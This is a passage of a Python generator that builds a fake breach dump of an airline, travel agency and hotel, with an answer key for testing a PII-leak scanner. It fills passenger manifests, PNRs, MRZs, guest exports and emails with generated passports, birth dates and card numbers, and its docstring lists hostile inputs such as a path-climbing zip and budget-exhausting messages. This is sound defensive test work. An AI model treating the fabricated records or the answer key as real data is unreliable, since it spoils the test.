#!/usr/bin/env python3
"""Seventeenth hostile dump with an answer key (tests/e2e/test_hostile16.py).

make_hostile16.py OUT -> OUT/dump/... and OUT/key.json

Same key format as make_hostile3.py (its docstring lists the expect
fields) and make_hostile8.py's checker (entities_only, exact); the shared
helpers are tests/gen/hostile_common.py. This one lays out what leaks when
an AIRLINE, a TRAVEL AGENCY / GDS or a HOTEL CHAIN is breached (Marriott/
Starwood 2018: passport numbers; Air India/SITA 2021; Cathay Pacific 2018;
British Airways 2018), each file written by hand from the format's
documented layout with the standard library, with fake PII:

- passenger data interchange: UN/EDIFACT PAXLST (APIS) and PNRGOV messages
  (ISO 9735: UNA service string advice, UNB/UNH/.../UNT/UNZ; ' ends a
  segment, + separates elements, : components, ? releases any of them),
  NAD+FL passenger names and addresses, DOC+P passport numbers, DTM+329
  birth dates (YYMMDD), COM phones and e-mail, TIF/SSR/FOP segments; one a
  segment a line, one all on one line, one with a non-default UNA;
- GDS/PNR text: an Amadeus-style PNR display (SSR DOCS with the passport
  and birth date inside slash-separated fields, SSR FOID, SSR CTCE with the
  IATA e-mail escapes // for @, .. for _, ./ for -, SSR CTCM phones, FP CC
  form-of-payment cards: full and masked), a Sabre-style one, a PNR history
  log;
- boarding passes: IATA BCBP strings (Resolution 792) as text, in a PDF and
  in an HTML e-mail;
- passport MRZs (ICAO 9303 TD3) in a scanned-ID OCR text and in a visa
  application JSON, decoys with bad check digits;
- hotel: an Opera-PMS-like guest CSV and XML export (passport, nationality,
  birth date, card tokens and real PANs), an OpenTravel Alliance
  OTA_HotelResNotifRQ (CardNumber, Email, Telephone), a guest registration
  card PDF, a loyalty members export (fixed-width), a night-audit report;
- mail: a booking confirmation .eml with an iCalendar attachment holding
  the traveller's phone, an e-ticket receipt PDF, an mbox of agent mail;
- hostile touches: an EDIFACT interchange cut mid-segment, an encrypted 7z
  of the APIS folder, a zip whose member names climb, a huge message of
  repeated segments (budgets), a PAXLST named .pdf.

"gap": true marks what a careful tool finds and leaksift does not (the
report that came with this file says why); a gap that starts to hold fails
until its mark is dropped. "arguable": true marks an expectation a careful
responder could argue either way.

Python stdlib only (and 7z for the encrypted archive, skipped without it);
deterministic. `make_hostile16.py --corpus fuzz/corpus` writes the edifact
and pnr fuzz seeds.
"""
import io
import json
import os
import sys
import zipfile
from email.message import EmailMessage

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import hostile_common as hc  # noqa: E402
import gen_pdf  # noqa: E402

FP_KEY = b"hostile16 fingerprint key, test only"
D = hc.Dump(FP_KEY, domain="travel-mail.test", ssn_base=560)
key, put, person, pl = D.key, D.put, D.person, D.pl
check = hc.check
AIR = "skyways-ops"
HOTEL = "grandstay-pms"
AGENCY = "globetrek-agency"
MON = ("JAN", "FEB", "MAR", "APR", "MAY", "JUN", "JUL", "AUG", "SEP", "OCT", "NOV", "DEC")
_npp = [0]


def traveller():
    """A person with a passport number (9 digits), a birth date and an
    upper-case surname/given name."""
    p = person()
    _npp[0] += 1
    p["passport"] = "5%02d%06d" % (10 + _npp[0], 104729 * _npp[0] % 1000000)
    y, m, d = (int(x) for x in p["dob"].split("-"))
    p["yymmdd"] = "%02d%02d%02d" % (y % 100, m, d)
    p["ddmonyy"] = "%02d%s%02d" % (d, MON[m - 1], y % 100)
    p["LAST"], p["FIRST"] = p["last"].upper(), p["first"].upper()
    p["exp"] = "%02d%s%02d" % (d, MON[(m + 4) % 12], 24 + p["n"] % 6)
    return p


def pp(*people, dob=True):
    out = {"passport": [p["passport"] for p in people]}
    if dob:
        out["dob"] = [p["dob"] for p in people]
    return out


def pdf(lines):
    """A one-page PDF showing LINES (Helvetica, one Tj a line)."""
    w = gen_pdf.Writer()
    c = b"BT /F1 10 Tf 14 TL 50 760 Td " + b" T* ".join(gen_pdf.lit(x) + b" Tj" for x in lines) + b" ET\n"
    return w.classic(gen_pdf.simple_doc(w, [c]))


# ---------------------------------------------------------------- EDIFACT
def una_release(s, seps="+:'?"):
    """Escape EDIFACT service characters with the release character ?."""
    return "".join("?" + ch if ch in seps else ch for ch in s)


def paxlst(people, ref="000000101", nl="\n", flight="SK0117", cut=None):
    """A PAXLST (D02B, IATA/WCO guidelines) interchange for PEOPLE."""
    seg = ["UNA:+.? '",
           "UNB+UNOA:4+SKYWAYS:ZZ+USCSAPIS:ZZ+141124:0800+%s++APIS" % ref,
           "UNG+PAXLST+SKYWAYS AIRLINES+USADHS+141124:0800+1+UN+D:02B",
           "UNH+PAX001+PAXLST:D:02B:UN:IATA+%s/141124/0800+01:F" % flight,
           "BGM+745", "NAD+MS+++SKYWAYS OPERATIONS CONTROL", "COM+44 20 7946 0000:TE",
           "TDT+20+%s+++SK" % flight, "LOC+125+LHR", "DTM+189:1411241100:201", "LOC+87+JFK",
           "DTM+232:1411241405:201"]
    for i, p in enumerate(people):
        last = una_release(p["LAST"] if i != 1 else "O'" + p["LAST"])
        seg += ["NAD+FL+++%s:%s+%d HIGH STREET?+FLAT %d+LONDON++SW1A 1AA+GBR" % (last, p["FIRST"], 10 + p["n"], p["n"]),
                "ATT+2++%s" % "MF"[p["n"] % 2], "DTM+329:%s" % p["yymmdd"], "LOC+178+LHR", "LOC+179+JFK",
                "NAT+2+GBR", "RFF+AVF:SK%04d" % (7000 + p["n"]), "DOC+P:110:111+%s" % p["passport"],
                "DTM+36:%02d0115" % (24 + p["n"] % 6), "LOC+91+GBR"]
    seg += ["CNT+42:%d" % len(people), "UNT+%d+PAX001" % (len(seg) - 1), "UNE+1+1", "UNZ+1+%s" % ref]
    body = seg[0] + nl + (("'" + nl).join(seg[1:]) + "'" + nl)
    if cut is not None:
        body = body[:body.index(cut) + len(cut)]
    return body.encode()


def pnrgov(people, elem="+", comp=":", rel="?", term="'", nl=""):
    """A PNRGOV (IATA PNRGOV 13.1) push with a UNA naming its own service
    characters."""
    def e(*els):
        return elem.join(comp.join(x) if isinstance(x, tuple) else x for x in els)

    def esc(s):
        return "".join(rel + ch if ch in (elem, comp, rel, term) else ch for ch in s)
    seg = [e("UNB", ("UNOA", "4"), ("SKYWAYS", "ZZ"), ("CAPNRGOV", "ZZ"), ("141124", "0800"), "PNR20141124"),
           e("UNH", "1", ("PNRGOV", "13", "1", "IA"), "SK0117/141124"),
           e("MSG", ("", "22")), e("ORG", ("SK", "LON")), e("TVL", ("241114", "1100"), "LHR", "YYZ", ("SK", "0117"))]
    for i, p in enumerate(people):
        rloc = "Q%dX%03d" % (i, p["n"])
        cte = p["email_ctce"]
        seg += [e("SRC"), e("RCI", ("SK", rloc)),
                e("TIF", esc(p["LAST"]), (esc(p["FIRST"]) + " MR", "A", str(i + 1))),
                e("SSR", ("DOCS", "HK", "1", "SK", "", "", "", "", esc("/P/GBR/%s/GBR/%s/%s/%s/%s/%s" % (
                    p["passport"], p["ddmonyy"], "MF"[p["n"] % 2], p["exp"], p["LAST"], p["FIRST"])))),
                e("SSR", ("CTCE", "HK", "1", "SK", "", "", "", "", esc("/" + cte))),
                e("SSR", ("CTCM", "HK", "1", "SK", "", "", "", "", esc("/1" + p["phone10"]))),
                e("FOP", ("CC", "", "", "VI", p["card"], "1217")),
                e("ADD", "", ("700", esc("%d ELM ST, APT 4" % (10 + p["n"])), "TORONTO", "ON", "M5V 2T6", "CA"))]
    seg += [e("UNT", str(len(seg)), "1"), e("UNZ", "1", "PNR20141124")]
    una = "UNA" + comp + elem + "." + rel + " " + term
    return (una + nl + (term + nl).join(seg) + term + nl).encode()


def ctce(email):
    """An e-mail address as IATA's SSR CTCE free text writes it."""
    return email.upper().replace("@", "//").replace("_", "..").replace("-", "./")


def edifact_cases():
    ppl = [traveller() for _ in range(3)]
    r = put(AIR + "/apis/outbound/PAXLST_SK0117_20141124.edi", paxlst(ppl))
    key("paxlst_passports", r, [], exact={"passport": [p["passport"] for p in ppl]}, verdict="sensitive")
    key("paxlst_dob", r, [], exact={"dob": [p["dob"] for p in ppl]})
    key("paxlst_full", r, [], coverage="full")
    # the whole interchange on one line (what a carrier's host sends): ? releases the apostrophe of O'NEIL
    one = [traveller() for _ in range(2)]
    r = put(AIR + "/apis/outbound/PAXLST_SK0221_20141124.edi", paxlst(one, ref="000000102", nl="", flight="SK0221"))
    key("paxlst_oneline", r, [], exact=pp(*one), coverage="full", verdict="sensitive")
    # PNRGOV with a non-default UNA: elements *, components ^, release !, segments ~, a line each
    pg = [traveller() for _ in range(2)]
    pg[0]["email"] = "%s_%s%02d@travel-mail.test" % (pg[0]["first"].lower(), pg[0]["last"].lower(), pg[0]["n"])
    pg[1]["email"] = "%s%02d@travel-mail.test" % (pg[1]["last"].lower(), pg[1]["n"])
    for p in pg:
        p["email_ctce"] = ctce(p["email"])
    r = put(AIR + "/pnrgov/outbound/PNRGOV_CA_20141124_0800.edi",
            pnrgov(pg, elem="*", comp="^", rel="!", term="~", nl="\r\n"))
    key("pnrgov_docs", r, [], exact=pp(*pg), verdict="sensitive")
    key("pnrgov_ctce_email", r, [], exact={"email": [p["email"] for p in pg]})
    key("pnrgov_card", r, [], exact={"credit_card": [p["card"] for p in pg]})
    key("pnrgov_ctcm_phone", r, [], exact={"phone": [p["phone10"] for p in pg]})
    # the same message with the default service characters, one line
    pg2 = [traveller()]
    pg2[0]["email_ctce"] = ctce(pg2[0]["email"])
    r = put(AIR + "/pnrgov/outbound/PNRGOV_CA_20141124_0900.edi", pnrgov(pg2))
    key("pnrgov_default_una", r, [], exact=dict(pp(*pg2), email=[pg2[0]["email"]],
                                                credit_card=[pg2[0]["card"]]), coverage="full")
    # cut in the middle of a segment (a transfer cut short): what came is read, the object is partial
    cp = [traveller() for _ in range(3)]
    r = put(AIR + "/apis/failed/PAXLST_SK0305_20141124.edi.part",
            paxlst(cp, ref="000000103", flight="SK0305", cut="DOC+P:110:111+%s" % cp[2]["passport"][:4]))
    key("paxlst_cut_read", r, [], planted=pp(*cp[:2]))
    key("paxlst_cut_truncated", r, [], coverage="partial", reasons_all=["truncated"])
    # a PAXLST named .pdf (the extension lies)
    lp = [traveller() for _ in range(2)]
    r = put(AIR + "/apis/archive/manifest_SK0117.pdf", paxlst(lp, ref="000000104"))
    key("paxlst_named_pdf", r, [], exact=pp(*lp), alerts_all=["ext_mismatch"], verdict="hostile")
    # a huge message: one passenger group repeated 60 000 times (a charter flight's worth many times
    # over), the real passenger first: read until the text budget, noted
    hp = traveller()
    grp = ("NAD+FL+++SMITH:ANON+1 ROAD+TOWN++00000+GBR'ATT+2++M'NAT+2+GBR'"
           "RFF+AVF:SK0000'LOC+178+LHR'LOC+179+JFK'")
    big = paxlst([hp], ref="000000105").decode()
    at = big.index("CNT+42")
    big = big[:at] + grp * 60000 + big[at:]
    r = put(AIR + "/apis/archive/PAXLST_SK9999_charter.edi", big.encode())
    key("paxlst_huge_first", r, [], planted=pp(hp))
    key("paxlst_huge_budget", r, [], coverage_not="none")


# ---------------------------------------------------------------- GDS / PNR text
def amadeus_pnr(a, b, masked_card):
    return ("--- RLR SFP ---\n"
            "RP/LONGT2100/LONGT2100            SU/GS  24NOV14/0800Z   7QX2LM\n"
            "LONGT2100/1234SU/24NOV14\n"
            "  1.%s/%s MR   2.%s/%s MRS\n"
            "  3  SK 117 Y 17DEC 3 LHRJFK HK2  1100 1405  17DEC  E  SK/7QX2LM\n"
            "  4  SK 118 Y 03JAN 6 JFKLHR HK2  1830 0640  04JAN  E  SK/7QX2LM\n"
            "  5 AP LON 020 7946 0018 - GLOBETREK TRAVEL - A\n"
            "  6 APE %s/P1\n"
            "  7 TK OK24NOV/LONGT2100\n"
            "  8 SSR DOCS SK HK1 P/GBR/%s/GBR/%s/%s/%s/%s/%s/P1\n"
            "  9 SSR DOCS SK HK1 P/GBR/%s/GBR/%s/%s/%s/%s/%s/P2\n"
            " 10 SSR FOID SK HK1 PP%s/P1\n"
            " 11 SSR CTCE SK HK1 %s/P2\n"
            " 12 SSR CTCM SK HK1 1%s/P2\n"
            " 13 OSI SK CTCP LON 020 7946 0018 AGENCY\n"
            " 14 FP CCVI%s/1217/A\n"
            " 15 FP PAX CCCA%s/0925/P2\n"
            " 16 FA PAX 125-2481302711/ETSK/GBP1204.80/24NOV14/LONGT2100/91212345/S3-4/P1\n"
            " 17 RM NOTIFY PAX OF SCHEDULE CHANGE\n"
            % (a["LAST"], a["FIRST"], b["LAST"], b["FIRST"], a["email"].upper(),
               a["passport"], a["ddmonyy"], "MF"[a["n"] % 2], a["exp"], a["LAST"], a["FIRST"],
               b["passport"], b["ddmonyy"], "MF"[b["n"] % 2], b["exp"], b["LAST"], b["FIRST"],
               a["passport"], ctce(b["email"]), b["phone10"], a["card"], masked_card)).encode()


def pnr_cases():
    a, b = traveller(), traveller()
    b["email"] = "%s_%s-%02d@travel-mail.test" % (b["first"].lower(), b["last"].lower(), b["n"])
    m = traveller()
    r = put(AGENCY + "/gds/queues/Q8/7QX2LM.txt", amadeus_pnr(a, b, m["card"][:4] + "XXXXXXXX" + m["card"][-4:]))
    key("pnr_docs_passport", r, [], exact={"passport": [a["passport"], b["passport"]]}, verdict="sensitive")
    key("pnr_docs_dob", r, [], exact={"dob": [a["dob"], b["dob"]]})
    # APE is written as it is; CTCE as IATA escapes it (// for @, .. for _, ./ for -)
    key("pnr_ctce_email", r, [], exact={"email": [a["email"], b["email"]]})
    key("pnr_ctcm_phone", r, [], planted={"phone": [b["phone10"]]})
    # FP CCVI4539...: the full card glued to its card code counts, the masked one never
    key("pnr_fp_card", r, [], exact={"credit_card": [a["card"]]})
    # Sabre-style: *P4 and *PE displays, 4-digit years in DOCS
    s = traveller()
    sab = ("7QX2LM\n 1.1%s/%s MS\n 1 SK 221Y 20DEC 6 LHRCDG HK1  0800  1015  /DCSK*7QX2LM /E\n"
           "TKT/TIME LIMIT\n  1.TAW24NOV/\nPHONES\n  1.LON020 7946 0018-A\nPASSENGER EMAIL DATA EXISTS  *PE TO DISPLAY ALL\n"
           "GENERAL FACTS\n  1.SSR DOCS SK HK1/P/GBR/%s/GBR/%02d%s%s/%s/%s/%s/%s\n"
           "  2.SSR CTCM SK HK1/1%s\n  3.SSR CTCE SK HK1/%s\n"
           "RECEIVED FROM - PAX\nLONGT.LONGT2100*AGT 0812/24NOV14 7QX2LM H\n"
           % (s["LAST"], s["FIRST"], s["passport"], int(s["dob"][8:]), MON[int(s["dob"][5:7]) - 1], s["dob"][:4],
              "MF"[s["n"] % 2], s["exp"][:5] + "20" + s["exp"][5:], s["LAST"], s["FIRST"], s["phone10"], ctce(s["email"])))
    r = put(AGENCY + "/gds/sabre/7QX2LM_sabre.txt", sab.encode())
    key("sabre_docs", r, [], exact=dict(pp(s), email=[s["email"]]), verdict="sensitive")
    # the PNR history: AS (added) and XS (cancelled) SSR lines, each passenger's data
    h1, h2 = traveller(), traveller()
    hist = ("RP/LONGT2100/LONGT2100            SU/GS  24NOV14/0800Z   8ZK4PQ\n"
            "000 OS/SK 117 Y 17DEC 3 LHRJFK LK1  1100 1405/NN *1A/E*\n"
            "000 OS/SK 118 Y 03JAN 6 JFKLHR LK1  1830 0640/NN *1A/E*\n"
            "000 AS/SSR DOCS SK HK1 P/GBR/%s/GBR/%s/M/%s/%s/%s\n"
            "000 RF-PAX CR-LONGT2100 91212345 SU 0001AA/GS 24NOV1400Z\n"
            "001 XS/SSR DOCS SK HK1 P/GBR/%s/GBR/%s/F/%s/%s/%s\n"
            "001 AS/SSR CTCE SK HK1 %s\n"
            "001 RF-AGENT CR-LONGT2100 91212345 SU 0001AA/GS 25NOV1410Z\n"
            % (h1["passport"], h1["ddmonyy"], h1["exp"], h1["LAST"], h1["FIRST"],
               h2["passport"], h2["ddmonyy"], h2["exp"], h2["LAST"], h2["FIRST"], ctce(h2["email"])))
    r = put(AGENCY + "/gds/history/8ZK4PQ_history.log", hist.encode())
    # a cancelled DOCS (XS) still shows the passport: it leaked all the same
    key("pnr_history", r, [], exact=dict(pp(h1, h2), email=[h2["email"]]), verdict="sensitive")


# ---------------------------------------------------------------- boarding passes
def bcbp(p, pnr, frm, to, flight, seat, seq):
    """IATA BCBP (Resolution 792) M1 mandatory items, one leg, no
    conditional items."""
    name = ("%s/%s" % (p["LAST"], p["FIRST"]))[:20].ljust(20)
    return "M1%sE%-7s%s%s%-3s%-5s%03d%s%-4s%-5s%s00" % (name, pnr, frm, to, "SK", flight.rjust(4, "0") + " ",
                                                     351, "Y", seat, seq, "1")


def bcbp_cases():
    ps = [traveller() for _ in range(3)]
    lines = [bcbp(p, "7QX2LM", "LHR", "JFK", "0117", "%03dA" % (12 + i), "%04d" % (15 + i)) for i, p in enumerate(ps)]
    r = put(AIR + "/dcs/bcbp_scans_20141217.txt", ("\n".join(lines) + "\n").encode())
    # a boarding pass names the traveller and the booking: personal data, but none of the entities
    key("bcbp_text", r, [], coverage="full", no_findings=True)
    q = traveller()
    r = put(AIR + "/dcs/boarding_pass_%s.pdf" % q["LAST"].lower(),
            pdf(["SKYWAYS BOARDING PASS", "NAME %s/%s" % (q["LAST"], q["FIRST"]), "FLIGHT SK 117 LHR-JFK 17DEC",
                 "SEAT 14C  GATE B32  BOARDING 10:30", bcbp(q, "9LM3RT", "LHR", "JFK", "0117", "014C", "0042"),
                 "Passport: %s" % q["passport"]]))
    key("bcbp_pdf", r, [], coverage="full", exact={"passport": [q["passport"]]})
    w = traveller()
    msg = EmailMessage()
    msg["From"] = "checkin@skyways.test"
    msg["To"] = w["email"]
    msg["Subject"] = "Your boarding pass SK 117"
    msg["Date"] = "Wed, 17 Dec 2014 07:00:00 +0000"
    msg["Message-ID"] = "<bp-%d@skyways.test>" % w["n"]
    msg.set_content("Your boarding pass is attached.")
    msg.add_alternative("<html><body><p>Dear %s %s,</p><p>Passenger mobile: %s</p>"
                        "<pre>%s</pre></body></html>" % (w["first"], w["last"], w["phone"],
                                                         bcbp(w, "4TR8KZ", "LHR", "JFK", "0117", "021F", "0077")),
                        subtype="html")
    r = put(AIR + "/mail/checkin/boarding_pass_%d.eml" % w["n"], bytes(msg))
    key("bcbp_html_mail", r, None, planted_under={"email": [w["email"]], "phone": [w["phone10"]]})


# ---------------------------------------------------------------- MRZ
def mrz_check(s):
    v = 0
    for i, ch in enumerate(s):
        n = 0 if ch == "<" else int(ch) if ch.isdigit() else ord(ch) - 55
        v += n * (7, 3, 1)[i % 3]
    return str(v % 10)


def td3(p, bad=False):
    l1 = ("P<GBR%s<<%s" % (p["LAST"], p["FIRST"])).ljust(44, "<")[:44]
    doc = p["passport"].ljust(9, "<")
    exp = "%02d0115" % (24 + p["n"] % 6)
    pers = "<" * 14
    dob = p["yymmdd"]
    d1 = mrz_check(doc)
    if bad:
        d1 = str((int(d1) + 3) % 10)
    body = doc + d1 + "GBR" + dob + mrz_check(dob) + "MF"[p["n"] % 2] + exp + mrz_check(exp) + pers + mrz_check(pers)
    comp = mrz_check(doc + d1 + dob + mrz_check(dob) + exp + mrz_check(exp) + pers + mrz_check(pers))
    return l1, body + comp


def mrz_cases():
    a, dec = traveller(), traveller()
    l1, l2 = td3(a)
    d1, d2 = td3(dec, bad=True)
    ocr = ("UNITED KINGDOM OF GREAT BRITAIN AND NORTHERN IRELAND\nPASSPORT  PASSEPORT\n"
           "Type/Type P   Code/Code GBR\nSurname/Nom %s\nGiven names/Prenoms %s\n"
           "Nationality/Nationalite BRITISH CITIZEN\nSex/Sexe %s\n\n%s\n%s\n\n--- page 2 (rejected scan) ---\n%s\n%s\n"
           % (a["LAST"], a["FIRST"], "MF"[a["n"] % 2], l1, l2, d1, d2))
    r = put(AGENCY + "/visa/scans/ocr_passport_%d.txt" % a["n"], ocr.encode())
    # the decoy's document number fails its check digit: not a passport
    key("mrz_ocr", r, [], exact={"passport": [a["passport"]]}, verdict="sensitive")
    v = traveller()
    vl1, vl2 = td3(v)
    app = {"applicationId": "VA-2014-%05d" % v["n"], "applicant": {
        "surname": v["LAST"], "givenNames": v["FIRST"], "dateOfBirth": v["dob"], "email": v["email"],
        "passport": {"number": v["passport"], "issuingCountry": "GBR", "expiry": "2029-01-15",
                     "mrz": [vl1, vl2]}}, "status": "SUBMITTED"}
    r = put(AGENCY + "/visa/applications/VA-2014-%05d.json" % v["n"], json.dumps(app, indent=2).encode())
    key("visa_json", r, [], exact={"dob": [v["dob"]], "email": [v["email"]]}, verdict="sensitive")
    # the passport number under "passport": {"number": ...} (the label is the parent key) and the MRZ
    # as two JSON strings of an array (quotes and a comma between the lines): both read as the passport
    # (pii_passport_context's $nested, pii_passport_mrz's JSON-strings join; rules19b)
    key("visa_json_passport", r, [], planted={"passport": [v["passport"]]})


# ---------------------------------------------------------------- hotel
def hotel_cases():
    gs = [traveller() for _ in range(4)]
    rows = ["CONF_NO,LAST_NAME,FIRST_NAME,EMAIL,PHONE,NATIONALITY,PASSPORT_NO,BIRTH_DATE,CC_TYPE,CC_TOKEN,CC_NUMBER"]
    for i, g in enumerate(gs):
        tok = "%016d" % (8000000000000000 + 7919 * g["n"])   # a token: 16 digits that fail Luhn
        while hc.luhn_ok(tok):
            tok = tok[:-1] + str((int(tok[-1]) + 1) % 10)
        num = g["card"] if i % 2 == 0 else ""
        rows.append("%d,%s,%s,%s,%s,GBR,%s,%s,VA,%s,%s" % (
            88000 + i, g["LAST"], g["FIRST"], g["email"], g["phone"], g["passport"], g["dob"], tok, num))
    r = put(HOTEL + "/opera/exports/guest_profiles_20141124.csv", ("\r\n".join(rows) + "\r\n").encode())
    key("opera_csv", r, [], exact={"passport": [g["passport"] for g in gs], "dob": [g["dob"] for g in gs],
                                   "email": [g["email"] for g in gs], "phone": [g["phone10"] for g in gs],
                                   "credit_card": [gs[0]["card"], gs[2]["card"]]}, verdict="sensitive")
    gx = [traveller() for _ in range(2)]
    xml = '<?xml version="1.0" encoding="UTF-8"?>\n<Profiles resort="GSLON">\n' + "".join(
        "  <Profile nameId=\"%d\">\n    <Name><Last>%s</Last><First>%s</First></Name>\n"
        "    <BirthDate>%s</BirthDate>\n    <Nationality>GB</Nationality>\n"
        "    <Identification type=\"PASSPORT\"><DocumentNumber>%s</DocumentNumber></Identification>\n"
        "    <PassportNumber>%s</PassportNumber>\n"
        "    <Email>%s</Email>\n    <Phone type=\"MOBILE\">%s</Phone>\n  </Profile>\n"
        % (40000 + g["n"], g["last"], g["first"], g["dob"], g["passport"], g["passport"], g["email"], g["phone"])
        for g in gx) + "</Profiles>\n"
    r = put(HOTEL + "/opera/exports/profiles.xml", xml.encode())
    key("opera_xml", r, [], exact={"dob": [g["dob"] for g in gx], "email": [g["email"] for g in gx]},
        verdict="sensitive")
    # <PassportNumber>...</PassportNumber>: the XML element (pii_passport_context reads a > after the label)
    key("opera_xml_passport", r, [], planted={"passport": [g["passport"] for g in gx]})
    o = traveller()
    ota = ('<?xml version="1.0" encoding="UTF-8"?>\n'
           '<OTA_HotelResNotifRQ xmlns="http://www.opentravel.org/OTA/2003/05" EchoToken="1417" '
           'TimeStamp="2014-11-24T08:00:00" Version="1.003">\n <HotelReservations>\n  <HotelReservation>\n'
           '   <ResGuests><ResGuest><Profiles><ProfileInfo><Profile><Customer>\n'
           '    <PersonName><GivenName>%s</GivenName><Surname>%s</Surname></PersonName>\n'
           '    <Telephone PhoneTechType="5" PhoneNumber="%s"/>\n    <Email>%s</Email>\n'
           '    <Document DocType="2" DocID="%s" DocIssueCountry="GB"/>\n'
           '   </Customer></Profile></ProfileInfo></Profiles></ResGuest></ResGuests>\n'
           '   <ResGlobalInfo><Guarantee GuaranteeType="CC/DC/Voucher"><GuaranteesAccepted><GuaranteeAccepted>\n'
           '    <PaymentCard CardCode="VI" CardNumber="%s" ExpireDate="1217" SeriesCode="123">'
           '<CardHolderName>%s</CardHolderName></PaymentCard>\n'
           '    <PaymentCard CardCode="MC" CardNumber="XXXXXXXXXXXX%s" ExpireDate="0916"/>\n'
           '   </GuaranteeAccepted></GuaranteesAccepted></Guarantee></ResGlobalInfo>\n'
           '  </HotelReservation>\n </HotelReservations>\n</OTA_HotelResNotifRQ>\n'
           % (o["first"], o["last"], "+1 " + o["phone"], o["email"], o["passport"], o["card"], o["name"],
              hc.card(o["n"] + 50)[-4:]))
    r = put(HOTEL + "/channel/ota/resnotif_1417.xml", ota.encode())
    key("ota_resnotif", r, [], exact={"credit_card": [o["card"]], "email": [o["email"]], "phone": [o["phone10"]]},
        verdict="sensitive")
    # DocType="2" is OTA's passport code (code list DOC): DocID is the passport number; reading it needs
    # the code list
    key("ota_docid_passport", r, [], planted={"passport": [o["passport"]]}, arguable=True)
    rc = traveller()
    r = put(HOTEL + "/frontdesk/regcards/regcard_%d.pdf" % rc["n"],
            pdf(["GRANDSTAY LONDON - GUEST REGISTRATION CARD", "Room 1207   Arrival 24/11/2014   Departure 27/11/2014",
                 "Guest name: %s %s" % (rc["first"], rc["last"]), "Nationality: British",
                 "Passport number: %s" % rc["passport"], "Date of birth: %s" % rc["dob"],
                 "E-mail: %s" % rc["email"], "Mobile: %s" % rc["phone"], "Signature: ____________________"]))
    key("regcard_pdf", r, [], exact=dict(pp(rc), email=[rc["email"]]), verdict="sensitive")
    lm = [traveller() for _ in range(3)]
    fw = "MEMBER_NO   TIER      LAST_NAME           FIRST_NAME     EMAIL                                   DOB\n" + "".join(
        "%-12s%-10s%-20s%-15s%-40s%s\n" % ("GS%010d" % (31000000 + m["n"]), "GOLD", m["LAST"], m["FIRST"], m["email"],
                                          m["dob"].replace("-", "")) for m in lm)
    r = put(HOTEL + "/loyalty/members_extract_20141124.dat", fw.encode())
    key("loyalty_emails", r, [], exact={"email": [m["email"] for m in lm]}, verdict="sensitive")
    # the DOB column of a fixed-width extract, YYYYMMDD under a DOB header
    key("loyalty_dob", r, [], planted={"dob": [m["dob"] for m in lm]}, arguable=True)
    na = traveller()
    audit = ("GRANDSTAY LONDON                NIGHT AUDIT - FOLIO SUMMARY            24-NOV-14 03:10\n"
             "ROOM  GUEST                     ARR       DEP       RATE     BALANCE   PAYMENT\n"
             "1207  %-25s 24-NOV-14 27-NOV-14 189.00   567.00    VA XXXXXXXXXXXX%s\n"
             "0815  CORPORATE ACCOUNT 2041    23-NOV-14 25-NOV-14 150.00   300.00    DIRECT BILL\n"
             "TOTAL ROOMS OCCUPIED 2   ADR 169.50   REVPAR 12.11\n" % (na["LAST"] + "/" + na["FIRST"], na["card"][-4:]))
    r = put(HOTEL + "/nightaudit/NA_20141124.txt", audit.encode())
    key("night_audit_masked", r, [], no_findings=True)


# ---------------------------------------------------------------- mail
def mail_cases():
    t = traveller()
    m = EmailMessage()
    m["From"] = "bookings@globetrek.test"
    m["To"] = t["email"]
    m["Subject"] = "Booking confirmation 7QX2LM"
    m["Date"] = "Mon, 24 Nov 2014 08:15:00 +0000"
    m["Message-ID"] = "<conf-7QX2LM@globetrek.test>"
    m.set_content("Dear %s,\n\nYour flight SK 117 on 17 December is confirmed.\nBooking reference 7QX2LM.\n" % t["first"])
    ics = ("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//GlobeTrek//Bookings//EN\r\nBEGIN:VEVENT\r\n"
           "UID:7QX2LM-SK117@globetrek.test\r\nDTSTAMP:20141124T081500Z\r\nDTSTART:20141217T110000Z\r\n"
           "DTEND:20141217T190500Z\r\nSUMMARY:SK 117 London Heathrow - New York JFK\r\n"
           "DESCRIPTION:Traveller %s %s\\nMobile: %s\\nSeat 14C\r\n"
           "ATTENDEE;CN=%s %s:mailto:%s\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
           % (t["first"], t["last"], t["phone"], t["first"], t["last"], t["email"]))
    m.add_attachment(ics.encode(), maintype="text", subtype="calendar", filename="SK117.ics")
    r = put(AGENCY + "/mail/outbox/conf_7QX2LM.eml", bytes(m))
    key("booking_eml", r, None, planted_under={"email": [t["email"]], "phone": [t["phone10"]]})
    key("booking_ics_phone", r, ["SK117.ics"], planted={"phone": [t["phone10"]]})
    e = traveller()
    r = put(AIR + "/eticket/ETKT_1252481302711.pdf",
            pdf(["ELECTRONIC TICKET PASSENGER ITINERARY/RECEIPT", "NAME: %s/%s MR" % (e["LAST"], e["FIRST"]),
                 "TICKET NUMBER: ETKT 125 2481302711", "BOOKING REFERENCE: 7QX2LM",
                 "FOID: PP%s" % e["passport"], "PASSPORT: %s" % e["passport"],
                 "FORM OF PAYMENT: CCVIXXXXXXXXXXXX%s" % e["card"][-4:],
                 "FARE: GBP 980.00  TAX: GBP 224.80  TOTAL: GBP 1204.80"]))
    key("eticket_pdf", r, [], exact={"passport": [e["passport"]]}, verdict="sensitive")
    # agent mail: a DOCS line pasted into a message, a card in a reply
    g1, g2 = traveller(), traveller()
    msgs = []
    for i, (frm, subj, body) in enumerate((
            ("agent3@globetrek.test", "Re: APIS for 7QX2LM",
             "Please add the following to the booking:\nSSR DOCS SK HK1 P/GBR/%s/GBR/%s/M/%s/%s/%s\nThanks\n"
             % (g1["passport"], g1["ddmonyy"], g1["exp"], g1["LAST"], g1["FIRST"])),
            ("agent7@globetrek.test", "card for 9LM3RT",
             "Customer called, card %s exp 12/17, email %s\n" % (g2["card"], g2["email"])))):
        mm = EmailMessage()
        mm["From"] = frm
        mm["To"] = "ops@globetrek.test"
        mm["Subject"] = subj
        mm["Date"] = "Mon, 24 Nov 2014 0%d:00:00 +0000" % (9 + i)
        mm["Message-ID"] = "<agent-%d@globetrek.test>" % i
        mm.set_content(body)
        msgs.append(b"From %s Mon Nov 24 0%d:00:00 2014\n" % (frm.encode(), 9 + i) + bytes(mm).replace(b"\r\n", b"\n"))
    r = put(AGENCY + "/mail/agents.mbox", b"\n".join(msgs) + b"\n")
    key("mbox_card", r, None, planted_under={"credit_card": [g2["card"]], "email": [g2["email"]]})
    # a DOCS line in a mail body: the passport and the birth date inside slash fields (the MIME
